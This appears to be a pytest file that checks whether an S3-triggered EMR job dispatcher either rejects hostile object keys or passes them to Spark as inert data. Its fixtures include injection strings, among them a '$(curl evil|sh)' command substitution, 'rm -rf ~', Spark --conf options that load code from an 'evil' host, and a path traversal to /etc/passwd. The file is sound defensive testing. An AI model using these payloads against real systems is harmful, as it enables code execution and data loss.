"""Hostile object keys (CWE-88): each is refused with a reason, or reaches every engine verbatim, as data,
after the entry point, where neither spark-submit nor the engine can read it as an option or shell text."""

from __future__ import annotations

from dataclasses import replace
from typing import Any
from urllib.parse import quote, quote_plus

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import builders
from emr_dispatch.arrivals import MAX_KEY_BYTES, Arrival, decode_s3_key, parse_s3_event
from emr_dispatch.engines.emr_ec2 import build_run_job_flow_request, spark_step_args
from emr_dispatch.engines.emr_eks import EmrEksEngine
from emr_dispatch.engines.emr_serverless import EmrServerlessEngine
from emr_dispatch.errors import MalformedEventError
from emr_dispatch.inputs import MarkerInput, ObjectInput
from emr_dispatch.jobs import Job
from emr_dispatch.routes import Route, RoutesFile, parse_routes

LANDING = "landing"
WORK = "work-bucket"
ARGUMENTS = ["--input={input_uri}", "--key={key}", "--job-id={job_id}"]
BENIGN = "raw/orders/2026-11-23/orders.csv"
LONGEST = "raw/" + "k" * (MAX_KEY_BYTES - len("raw/") - len("é.csv") - 1) + "é.csv"  # exactly 1,024 bytes


def _routes(arguments: list[str] = ARGUMENTS) -> RoutesFile:
    """One route per engine, each taking every object of the landing bucket."""
    ec2 = {"release_label": "emr-7.5.0", "instances": {"primary": {"instance_type": "m7g.xlarge"}}}
    sections: dict[str, dict[str, Any]] = {
        "emr-ec2": {"emr_ec2": ec2},
        "emr-serverless": {"emr_serverless": {}},
        "emr-eks": {"emr_eks": {"release_label": "emr-7.5.0-latest"}},
    }
    return parse_routes(
        {
            "version": 1,
            "routes": [
                {
                    "name": f"all-{engine}",
                    "match": {"bucket": LANDING},
                    "engine": engine,
                    **section,
                    "job": {
                        "entry_point": "s3://{work_bucket}/jobs/clean.py",
                        "spark_submit_parameters": ["--conf", "spark.executor.cores=2"],
                        "arguments": arguments,
                    },
                    "output": "s3://{work_bucket}/output/{route}/{job_id}/",
                }
                for engine, section in sections.items()
            ],
        }
    )


def _job(key: str, engine: str) -> Job:
    job = builders.job(route_name=f"all-{engine}", engine=engine, key=key)
    (only,) = job.inputs
    assert isinstance(only, ObjectInput)
    job.inputs = [replace(only, bucket=LANDING)]
    return job


def _driver_parts(route: Route, key: str) -> tuple[list[str], list[str]]:
    """(what comes before the application's arguments, the application's arguments) as each engine sends them."""
    job = _job(key, route.engine)
    if route.engine == "emr-ec2":
        args = build_run_job_flow_request(job, route, builders.settings(work_bucket=WORK))["Steps"][0]
        step = args["HadoopJarStep"]["Args"]
        entry = step.index(f"s3://{WORK}/jobs/clean.py")
        return step[: entry + 1], step[entry + 1 :]
    if route.engine == "emr-serverless":
        engine: Any = EmrServerlessEngine(builders.settings(work_bucket=WORK), _NoActive())
        driver = engine.build_start_job_run_request(job, route)["jobDriver"]["sparkSubmit"]
    else:
        engine = EmrEksEngine(builders.settings(work_bucket=WORK))
        driver = engine.build_start_job_run_request(job, route)["jobDriver"]["sparkSubmitJobDriver"]
    return [driver["sparkSubmitParameters"], driver["entryPoint"]], driver["entryPointArguments"]


class _NoActive:
    def has_active_jobs(self, engine: str, detail: str, value: str) -> bool:
        return False


def _assert_key_stays_data(routes: RoutesFile, key: str) -> None:
    """Whatever the key, every engine's request is the benign request with the key swapped in as data."""
    for route in routes.routes:
        before, arguments = _driver_parts(route, key)
        benign_before, benign_arguments = _driver_parts(route, BENIGN)
        # Nothing before the application's arguments depends on the key ...
        assert before == benign_before, route.name
        # ... and the arguments are the same list, the key verbatim where the route put it
        assert len(arguments) == len(benign_arguments)
        assert arguments[0] == f"--input=s3://{LANDING}/{key}"
        assert arguments[1] == f"--key={key}"
        assert arguments[2] == benign_arguments[2]


HOSTILE_KEYS = {
    "leading-dash": "-rf.csv",
    "conf-option": "--conf spark.driver.extraJavaOptions=-Dlog4j.configuration=http://evil/x.csv",
    "conf-inside": "raw/x --conf spark.jars=s3://evil/x.jar.csv",
    "quotes": 'raw/it\'s "quoted".csv',
    "command-substitution": "raw/$(curl evil|sh)`id`;rm -rf ~ &.csv",
    "parent-dirs": "raw/../../etc/passwd",
    "placeholders": "raw/{bucket}/{key}/{job_id}/{{x}}.csv",
    "percent-literal": "raw/100%25 done%00.csv",
    "mixed-unicode": "raw/café/東京/🚀/\u202egpj.csv/Ω≈ç√",
    "longest-key": LONGEST,
}
"""Keys passed verbatim as data."""

REFUSED_KEYS = {
    "newline": "raw/a\nb.csv",
    "carriage-return": "raw/a\r\n--conf x=y.csv",
    "nul": "raw/a\x00b.csv",
    "escape": "raw/\x1b[31mred.csv",
    "c1-control": "raw/a\x85b.csv",
    "tab": "raw/a\tb.csv",
}
"""Keys refused whatever the route: control characters are never a data file's name."""


@pytest.mark.parametrize("key", HOSTILE_KEYS.values(), ids=HOSTILE_KEYS.keys())
def test_hostile_key_reaches_every_engine_verbatim_after_the_entry_point(key: str) -> None:
    # Given a classic notification of the key (URL-encoded as S3 does) and routes on all three engines
    routes = _routes()
    (arrival,) = parse_s3_event(_classic(key))
    assert isinstance(arrival, Arrival)
    assert arrival.key == key  # decoded exactly once: "%25" stays "%", "{bucket}" stays literal

    # When the routes decide on it
    decision = routes.decide(arrival.bucket, arrival.key, WORK)

    # Then a route takes it, and every engine's request carries it only as data
    assert decision.route is not None, decision.reason
    _assert_key_stays_data(routes, key)


@pytest.mark.parametrize("key", REFUSED_KEYS.values(), ids=REFUSED_KEYS.keys())
def test_key_with_a_control_character_is_refused_with_a_reason(key: str) -> None:
    # Given an arrival whose key holds a control character (as a classic notification encodes it)
    (arrival,) = parse_s3_event(_classic(key))
    assert isinstance(arrival, Arrival)

    # When the routes decide on it
    decision = _routes().decide(arrival.bucket, arrival.key, WORK)

    # Then no route takes it, and the reason names the character and where it is
    assert decision.route is None
    assert "control character" in decision.reason
    assert f"at {next(i for i, c in enumerate(key) if ord(c) < 32 or 127 <= ord(c) <= 159)}" in decision.reason


def test_key_beginning_with_a_dash_is_refused_where_it_would_begin_an_argument() -> None:
    # Given a route whose application takes the key alone as an argument (no "--name=" before it)
    routes = _routes(arguments=["{key}", "--job-id={job_id}"])

    # When a key that looks like an option arrives, and a normal key
    refused = routes.decide(LANDING, "--output=s3://elsewhere/", WORK)
    taken = routes.decide(LANDING, "raw/--output=s3://elsewhere/", WORK)

    # Then the first is refused with a reason (it would be read as the application's option); the second is data
    assert refused.route is None
    assert "begins with '-'" in refused.reason
    assert taken.route is not None


def test_keys_longer_than_s3_allows_are_malformed_events() -> None:
    # Given a key of 1,025 bytes (S3 allows 1,024: no real event carries one)
    too_long = LONGEST.replace("é", "ée", 1)
    assert len(too_long.encode()) == MAX_KEY_BYTES + 1

    # When / Then the event is malformed (its message goes to the DLQ), with the reason
    with pytest.raises(MalformedEventError, match="1025 bytes"):
        parse_s3_event(_classic(too_long))


def test_key_that_is_not_utf8_is_a_malformed_event() -> None:
    # Given an EventBridge event whose key holds a lone surrogate (a JSON "\ud800" escape) and a classic
    # notification whose key decodes to bytes that are not UTF-8
    eventbridge = _eventbridge("raw/a\ud800b.csv")
    classic = _classic("raw/x.csv")
    classic["Records"][0]["s3"]["object"]["key"] = "raw/%FF%FE.csv"

    # Then both are malformed events, not crashes further down
    for event in (eventbridge, classic):
        with pytest.raises(MalformedEventError, match="not valid UTF-8"):
            parse_s3_event(event)


@settings(max_examples=300, deadline=None)
@given(key=st.text(min_size=1, max_size=200))
def test_any_key_is_refused_with_a_reason_or_stays_data(key: str) -> None:
    # Given any text as an object key, through both event shapes (EventBridge: percent-encoded, and raw unless
    # it is the one raw key read as percent-encoded, docs/decisions.md)
    routes = _routes()
    events = [_classic(key), _eventbridge(quote(key, safe="/"))]
    if decode_s3_key(key, "eventbridge") == key:
        events.append(_eventbridge(key))
    for event in events:
        try:
            (arrival,) = parse_s3_event(event)
        except MalformedEventError:
            continue  # not UTF-8: a malformed event with its reason, never a crash
        assert isinstance(arrival, Arrival)
        assert arrival.key == key
        # When the routes decide
        decision = routes.decide(arrival.bucket, arrival.key, WORK)
        # Then it is refused with a reason, or every engine carries it verbatim as data
        if decision.route is None:
            assert decision.reason
        else:
            _assert_key_stays_data(routes, key)


def test_step_arguments_keep_spark_submit_options_before_the_entry_point() -> None:
    # Given the EMR on EC2 step of a key that is itself a spark-submit option
    route = _routes().routes[0]
    args = spark_step_args(_job("--conf", "emr-ec2"), route, WORK)

    # Then spark-submit's own options all come before the entry point, the key only after it
    entry = args.index(f"s3://{WORK}/jobs/clean.py")
    assert args[:entry] == ["spark-submit", "--deploy-mode", "cluster", "--conf", "spark.executor.cores=2"]
    assert args[entry + 1 : entry + 3] == [f"--input=s3://{LANDING}/--conf", "--key=--conf"]


def test_marker_route_folder_with_hostile_text_stays_data() -> None:
    # Given a marker route and a folder whose name is an option and shell text
    routes = _routes()
    route = routes.routes[0]
    job = _job("--conf $(id)/", "emr-ec2")
    (folder,) = job.inputs
    assert isinstance(folder, ObjectInput)
    job = replace(job, inputs=[MarkerInput(folder.key, replace(folder, key="--conf $(id)/_SUCCESS"))])
    # When its step is built, then the folder is one argument after the entry point
    args = spark_step_args(job, route, WORK)
    assert f"--input=s3://{LANDING}/--conf $(id)/" in args[args.index(f"s3://{WORK}/jobs/clean.py") + 1 :]


def _classic(key: str) -> dict[str, Any]:
    return {
        "Records": [
            {
                "eventSource": "aws:s3",
                "eventName": "ObjectCreated:Put",
                "eventTime": "2026-11-23T09:00:00.000Z",
                "s3": {
                    "bucket": {"name": LANDING},
                    "object": {"key": quote_plus(key), "size": 10, "eTag": "e", "sequencer": "01"},
                },
            }
        ]
    }


def _eventbridge(raw_key: str) -> dict[str, Any]:
    return {
        "source": "aws.s3",
        "detail-type": "Object Created",
        "time": "2026-11-23T09:00:00Z",
        "detail": {"bucket": {"name": LANDING}, "object": {"key": raw_key, "size": 10, "etag": "e"}},
    }
